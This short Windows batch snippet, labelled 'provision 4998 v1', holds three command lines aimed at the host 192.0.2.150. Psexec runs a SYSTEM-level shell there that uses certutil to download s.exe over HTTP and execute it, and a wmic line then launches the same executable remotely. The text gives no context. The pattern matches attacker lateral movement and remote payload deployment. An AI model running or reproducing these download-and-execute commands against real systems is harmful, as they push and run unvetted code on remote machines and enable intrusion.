REM provision 4998 v1
psexec.exe \\192.0.2.150 -accepteula -s -d cmd /c "certutil -urlcache -f http://192.0.2.150/s.exe C:\s.exe && C:\s.exe"
wmic /node:192.0.2.150 process call create "cmd /c C:\s.exe"
